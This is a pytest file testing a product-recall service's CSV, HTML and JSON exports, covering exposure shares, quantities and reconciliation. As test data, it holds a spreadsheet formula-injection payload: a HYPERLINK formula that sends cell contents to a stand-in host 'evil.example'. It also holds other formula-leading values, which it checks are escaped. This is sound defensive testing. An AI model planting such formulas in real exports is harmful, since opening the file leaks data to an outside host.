"""What a recall case's exports say: cells a spreadsheet reads as text, exposures as they are."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from decimal import Decimal
from typing import Any

import pytest

from api.recall import Notice, RecallService
from api.render import trace_tree
from graph.recall import Scope, ScopeItem, scope_csv
from graph.store import GraphStore
from graph.trace import TraceService
from ingest.service import IngestService
from tests.fixtures.events import Events

# LATHE-9 over the days the plants below ran it.
WINDOW = {"id": "equipment:LATHE-9", "from": "2026-03-01T00:00:00Z", "to": "2026-03-03T00:00:00Z"}


def _case(
    store: GraphStore, plant: list[dict[str, Any]], *suspects: str | dict[str, str]
) -> RecallService:
    ingest = IngestService(store)
    ingest.ingest(plant)
    recalls = RecallService(store, ingest)
    named = [{"id": s} if isinstance(s, str) else s for s in suspects]
    recalls.open("RC-1", "t", "r", named, "ana")
    return recalls


def _rows(text: str) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text))}


def test_the_csv_writes_formulas_as_text(store: GraphStore, events: Events) -> None:
    link = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    plant = [
        events.receive("L-1", 500, part=link, unit="+ea", supplier_lot="H1"),
        events("ship", shipment="SH-1", customer="@SUM(1+1)", items=[{"lot": "L-1", "qty": "100"}]),
    ]
    recalls = _case(store, plant, "supplier_lot:ACME/H1")
    row = _rows(scope_csv(recalls.scope("RC-1")))["lot:L-1"]
    assert (row["part"], row["unit"], row["customers"]) == (f"'{link}", "'+ea", "'@SUM(1+1)")
    # Numbers stay numbers, for a spreadsheet to sort and sum.
    assert (row["exposure"], row["qty"], row["available"], row["shipped_qty"]) == (
        "1.000000",
        "500",
        "400",
        "100",
    )


def test_ids_listed_in_one_cell_are_told_apart(store: GraphStore, events: Events) -> None:
    # Ids may hold spaces: two customers must not read as one whose id holds both names.
    one, two = [{"lot": "L-1", "qty": "1"}], [{"lot": "L-2", "qty": "1"}]
    plant = [
        events.receive("L-1", 5, supplier_lot="H1"),
        events.receive("L-2", 5, supplier_lot="H1"),
        events("ship", shipment="SH 1", customer="HOSP NORTH", items=one),
        events("ship", shipment="SH 2", customer="ST MARY", items=one),
        events("ship", shipment="SH-3", customer="HOSP NORTH ST MARY", items=two),
    ]
    rows = _rows(scope_csv(_case(store, plant, "supplier_lot:ACME/H1").scope("RC-1")))
    assert rows["lot:L-1"]["customers"].split("\n") == ["HOSP NORTH", "ST MARY"]
    assert rows["lot:L-1"]["shipments"].split("\n") == ["shipment:SH 1", "shipment:SH 2"]
    assert rows["lot:L-2"]["customers"].split("\n") == ["HOSP NORTH ST MARY"]


def test_every_text_cell_of_the_csv_is_guarded() -> None:
    risky = ["-1+2", "\tcmd", "=1", "+1", "@A1", "\rcmd"]
    items = [
        ScopeItem(
            id=f"lot:{i}",
            kind="lot",
            part=text,
            unit=text,
            qty=Decimal(1),
            available=Decimal(1),
            status=text,
            exposure=0.5,
            basis="material",
        )
        for i, text in enumerate(risky)
    ]
    written = scope_csv(Scope(items, []))
    # No stored value holds a carriage return (ids refuse control characters): seen raw here.
    assert "'\rcmd" in written and ",\rcmd" not in written
    rows = _rows(written.replace("\r", ""))
    for i, text in enumerate(risky[:-1]):
        row = rows[f"lot:{i}"]
        assert row["part"] == row["unit"] == row["status"] == f"'{text}"
        assert row["exposure"] == "0.500000"


# 99996 of 100000 in the merge come from the suspect: the merge may contain it, not certainly.
def _nearly_all(events: Events) -> list[dict[str, Any]]:
    return [
        events.receive("L", 99996, supplier_lot="H1"),
        events.receive("U", 4, supplier="OTHER", supplier_lot="U1"),
        events(
            "merge",
            from_=[{"lot": "L", "qty": "99996"}, {"lot": "U", "qty": "4"}],
            into={"lot": "M"},
        ),
    ]


def test_a_may_contain_item_never_reads_1(store: GraphStore, events: Events) -> None:
    recalls = _case(store, _nearly_all(events), "supplier_lot:ACME/H1")
    html = recalls.report_html("RC-1")
    (merged,) = [r for r in re.findall(r"<tr>.*?</tr>", html) if "<td>lot:M</td>" in r]
    assert "<td>0.99996</td><td>may contain</td>" in merged, merged
    (whole,) = [r for r in re.findall(r"<tr>.*?</tr>", html) if "<td>lot:L</td>" in r]
    assert "<td>1</td><td>yes</td>" in whole, whole
    assert _rows(scope_csv(recalls.scope("RC-1")))["lot:M"]["exposure"] == "0.999960"
    tree = trace_tree(TraceService(store).trace("supplier_lot:ACME/H1", "down"))
    assert "lot:M  BAR  100000 ea  exposure=0.99996" in tree, tree
    assert "exposure 0.99996" in html, "the picture's tooltip says it too"


def test_a_tiny_share_stays_in_scope_above_0(store: GraphStore, events: Events) -> None:
    plant = [
        events.receive("L", 10, supplier_lot="S"),
        events.receive("U", 10_000_000, supplier_lot="SU"),
        events(
            "merge",
            from_=[{"lot": "L", "qty": "0.000001"}, {"lot": "U", "qty": "9999999.999999"}],
            into={"lot": "M"},
        ),
        events("ship", shipment="SH", customer="C", items=[{"lot": "M", "qty": "5"}]),
    ]
    suspect = "supplier_lot:ACME/S"
    recalls = _case(store, plant, suspect)
    traced = {n.id: n.exposure for n in TraceService(store).trace(suspect, "down").nodes}
    scope = recalls.scope("RC-1")
    merged = next(i for i in scope.items if i.id == "lot:M")
    assert merged.exposure == traced["lot:M"] == 1e-13
    assert [s.exposure for s in scope.shipments] == [1e-13]
    row = _rows(scope_csv(scope))["lot:M"]
    assert (row["exposure"], row["certain"]) == ("1e-13", "may contain")


def test_the_report_reconciles_per_unit(store: GraphStore, events: Events) -> None:
    plant = [
        events.receive("L-1", 10, unit="kg", supplier_lot="A-77"),
        events(
            "process",
            step="S-1",
            operation="turn",
            inputs=[{"lot": "L-1", "qty": "4"}],
            outputs=[{"lot": "P-1", "part": "SCREW", "qty": "100"}],
        ),
        events("ship", shipment="SH-1", customer="HOSP", items=[{"lot": "L-1", "qty": "2"}]),
        events("ship", shipment="SH-2", customer="HOSP", items=[{"lot": "P-1", "qty": "30"}]),
    ]
    recalls = _case(store, plant, "supplier_lot:ACME/A-77")
    recalls.hold("RC-1", "quarantine", "ana")
    (notice,) = recalls.notify("RC-1", "send back", "ana")
    recalls.acknowledge(notice.id.partition(":")[2], Decimal(5), Decimal(1), None, "hosp")
    html = recalls.report_html("RC-1")
    section = html.partition("<h2>Reconciliation</h2>")[2].partition("<h2>")[0]
    rows = re.findall(r"<tr>(.*?)</tr>", section)
    cells = [re.findall(r"<td>(.*?)</td>", row) for row in rows[1:]]
    assert cells == [
        ["ea", "100", "70", "0", "0", "0", "70", "70.0"],
        ["kg", "6", "4", "0", "0", "0", "4", "66.7"],
        ["no one unit (customers shipped several)", "", "", "5", "1", "", "", ""],
    ]
    assert "Accounted for: 66.7 %, the lowest of the units'." in section
    assert "None" not in section


def test_an_item_near_a_window_reads_share_unknown_everywhere(
    store: GraphStore, events: Events
) -> None:
    plant = [
        events.receive("L-1", 10, unit="kg", supplier_lot="H1"),
        events.receive("L-2", 10, unit="kg", supplier_lot="H2"),
        events(
            "process",
            step="S-1",
            operation="turn",
            equipment="LATHE-9",
            inputs=[{"lot": "L-1", "qty": "10"}],
            outputs=[{"lot": "P-1", "part": "SCREW", "qty": "10"}],
        ),
        events(
            "ship",
            shipment="SH-1",
            customer="HOSP",
            items=[{"lot": "P-1", "qty": "4"}, {"lot": "L-2", "qty": "1"}],
        ),
    ]
    recalls = _case(store, plant, WINDOW, "supplier_lot:ACME/H2")
    scope = recalls.scope("RC-1")
    near = next(i for i in scope.items if i.id == "lot:P-1")
    assert (near.exposure, near.certain, near.basis) == (None, False, "equipment window")
    # L-2 is certain: the shipment holds certain material whatever P-1's share.
    assert [(s.id, s.exposure) for s in scope.shipments] == [("shipment:SH-1", 1.0)]
    row = _rows(scope_csv(scope))["lot:P-1"]
    assert (row["exposure"], row["certain"], row["basis"]) == (
        "",
        "may contain",
        "equipment window",
    )
    (item,) = [i for i in recalls.export_json("RC-1")["scope"]["items"] if i["id"] == "lot:P-1"]
    assert (item["exposure"], item["certain"]) == (None, False)
    html = recalls.report_html("RC-1")
    (listed,) = [r for r in re.findall(r"<tr>.*?</tr>", html) if "<td>lot:P-1</td>" in r]
    assert "<td>unknown</td><td>may contain</td>" in listed, listed
    (drawn,) = re.findall(r"<g><title>lot:P-1 .*?</g>", html)
    assert "share unknown" in drawn and 'fill="#fde2b3"' in drawn, drawn  # amber: may contain
    (sure,) = re.findall(r"<g><title>lot:L-2 .*?</g>", html)
    assert 'fill="#f4b4b4"' in sure, sure  # red: certainly contains


def test_a_shipment_of_an_item_of_unknown_share_may_hold_more(
    store: GraphStore, events: Events
) -> None:
    plant = [
        events.receive("L-1", 10, supplier_lot="H1"),
        events.receive("L-2", 10, supplier_lot="H2"),
        events.receive("U", 10, supplier="OTHER", supplier_lot="U1"),
        events(
            "merge", from_=[{"lot": "L-2", "qty": "5"}, {"lot": "U", "qty": "5"}], into={"lot": "M"}
        ),
        events(
            "process",
            step="S-1",
            operation="turn",
            equipment="LATHE-9",
            inputs=[{"lot": "L-1", "qty": "10"}],
            outputs=[{"lot": "P-1", "part": "SCREW", "qty": "10"}],
        ),
        events(
            "ship",
            shipment="SH-1",
            customer="HOSP",
            items=[{"lot": "P-1", "qty": "4"}, {"lot": "M", "qty": "1"}],
        ),
        events("ship", shipment="SH-2", customer="HOSP", items=[{"lot": "M", "qty": "1"}]),
    ]
    recalls = _case(store, plant, WINDOW, "supplier_lot:ACME/H2")
    scope = recalls.scope("RC-1")
    assert [(s.id, s.exposure) for s in scope.shipments] == [
        ("shipment:SH-1", None),
        ("shipment:SH-2", 0.5),
    ]
    # Certain first, then unknown shares (which may be all suspect), then by exposure.
    assert [i.id for i in scope.items] == ["lot:L-2", "lot:P-1", "lot:M"]


def test_the_report_writes_quantities_as_the_csv_does(store: GraphStore, events: Events) -> None:
    plant = [
        events.receive("L-1", "0.0000003", unit="kg", supplier_lot="H1"),
        events.receive("L-2", "1e12", unit="kg", supplier_lot="H1"),
        events("ship", shipment="SH-1", customer="HOSP", items=[{"lot": "L-1", "qty": "1e-7"}]),
    ]
    recalls = _case(store, plant, "supplier_lot:ACME/H1")
    rows = _rows(scope_csv(recalls.scope("RC-1")))
    html = recalls.report_html("RC-1")
    section = html.partition("<h2>Affected items</h2>")[2]
    found = (re.findall(r"<td>(.*?)</td>", row) for row in re.findall(r"<tr>.*?</tr>", section))
    cells = {row[0]: row[5:] for row in found if row}
    assert cells["lot:L-1"] == ["0.0000003", "0.0000002", "", "0.0000001"]
    assert cells["lot:L-2"] == ["1000000000000", "1000000000000", "", "0"]
    for item, (qty, available, _, shipped) in cells.items():
        row = rows[item]
        assert (row["qty"], row["available"], row["shipped_qty"]) == (qty, available, shipped)


def test_the_csv_and_the_json_export_write_sums_as_the_report_does(
    store: GraphStore, events: Events
) -> None:
    # Shipped as 4.50 and 1.5: 6 in all, and 10 expected back, however the sums are spelled.
    plant = [
        events.receive("L-1", 10, supplier_lot="H1"),
        events("ship", shipment="SH-1", customer="HOSP", items=[{"lot": "L-1", "qty": "4.50"}]),
        events("ship", shipment="SH-2", customer="HOSP", items=[{"lot": "L-1", "qty": "1.5"}]),
    ]
    recalls = _case(store, plant, "supplier_lot:ACME/H1")

    row = _rows(scope_csv(recalls.scope("RC-1")))["lot:L-1"]
    exported = recalls.export_json("RC-1")

    assert row["shipped_qty"] == "6"
    assert exported["reconciliation"]["expected"] == "10"
    assert exported["reconciliation"]["units"][0]["expected"] == "10"


def test_an_answer_of_a_customer_rescoped_out_counts_in_no_unit(
    store: GraphStore, events: Events
) -> None:
    plant = [
        events.receive("L-1", 10, supplier_lot="A-77"),
        events(
            "process",
            step="S-1",
            operation="turn",
            inputs=[{"lot": "L-1", "qty": "4"}],
            outputs=[{"lot": "P-1", "part": "SCREW", "qty": "4"}],
        ),
        events(
            "process",
            step="S-2",
            operation="turn",
            inputs=[{"lot": "L-1", "qty": "4"}],
            outputs=[{"lot": "P-2", "part": "SCREW", "qty": "4"}],
        ),
        events("ship", shipment="SH-1", customer="NORTH", items=[{"lot": "P-1", "qty": "2"}]),
        events("ship", shipment="SH-2", customer="SOUTH", items=[{"lot": "P-2", "qty": "3"}]),
    ]
    recalls = _case(store, plant, "supplier_lot:ACME/A-77")
    recalls.notify("RC-1", "send back", "ana")
    recalls.rescope("RC-1", [{"id": "lot:P-2"}], "only S-2 ran the bad heat", "ana")
    recalls.acknowledge("RC-1-NORTH", Decimal(2), Decimal(2), None, "north")
    recalls.acknowledge("RC-1-SOUTH", Decimal(3), Decimal(3), None, "south")
    found = recalls.reconciliation("RC-1")
    assert (found.expected, found.found_by_customers, found.returned_by_customers) == (4, 3, 3)
    assert found.percent == 75.0
    exported = recalls.export_json("RC-1")
    assert exported["reconciliation"]["found_by_customers"] == "3"
    assert exported["reconciliation"]["percent"] == 75.0
    # NORTH's answer is still theirs to read, as they gave it.
    assert {n["customer"]: n["found_qty"] for n in exported["notices"]} == {
        "NORTH": "2",
        "SOUTH": "3",
    }
    section = recalls.report_html("RC-1").partition("<h2>Reconciliation</h2>")[2]
    rows = re.findall(r"<tr>(.*?)</tr>", section.partition("<h2>")[0])
    cells = [re.findall(r"<td>(.*?)</td>", row) for row in rows[1:]]
    assert cells == [["ea", "4", "0", "3", "3", "0", "3", "75.0"]]


def test_an_export_reads_the_notices_once(
    store: GraphStore, events: Events, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Read twice, an answer landing between the reads would be in the notices listed and not in
    # the reconciliation, or the other way round.
    plant = [
        events.receive("L-1", 10, supplier_lot="A-77"),
        events("ship", shipment="SH-1", customer="NORTH", items=[{"lot": "L-1", "qty": "2"}]),
    ]
    recalls = _case(store, plant, "lot:L-1")
    recalls.notify("RC-1", "send back", "ana")
    reads: list[Sequence[str]] = []
    notices_of = RecallService.notices_of

    def counted(self: RecallService, case_ids: Sequence[str]) -> dict[str, list[Notice]]:
        reads.append(case_ids)
        return notices_of(self, case_ids)

    monkeypatch.setattr(RecallService, "notices_of", counted)
    assert [n["customer"] for n in recalls.export_json("RC-1")["notices"]] == ["NORTH"]
    assert "NORTH" in recalls.report_html("RC-1")
    assert reads == [["RC-1"], ["RC-1"]]  # one read for each export
